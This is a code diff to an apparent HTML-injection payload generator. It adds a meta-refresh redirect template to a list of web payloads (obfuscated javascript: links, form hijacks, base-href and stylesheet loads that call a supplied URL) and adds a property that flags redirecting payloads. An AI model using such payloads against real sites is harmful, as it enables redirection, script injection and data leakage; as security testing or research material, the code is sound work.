@@ -60,6 +60,7 @@ _SHELLS = (
     "<a href=java&Tab;script:{js}>go</a>",
     "<form action={k}><button>go</button></form><isindex type=image src={url}>",
     "<button form=x formaction={k}>go</button><form id=x></form>",
+    '<meta http-equiv=refresh content="0;url={url}">',
     "<base href={url}/><link rel=stylesheet href={url}>",
     "<link rel=stylesheet href={url}><link rel=prefetch href={url}>",
     "<style>@import '{url}';*{{background:url({url})}}</style>",
@@ -110,6 +111,11 @@ class Payload:
     number: int
     text: str
     address: str
+
+    @property
+    def steers(self) -> bool:
+        """Tell whether it leads the reader away, which no policy hinders."""
+        return "http-equiv" in self.text.lower()
 
     @property
     def token(self) -> str:
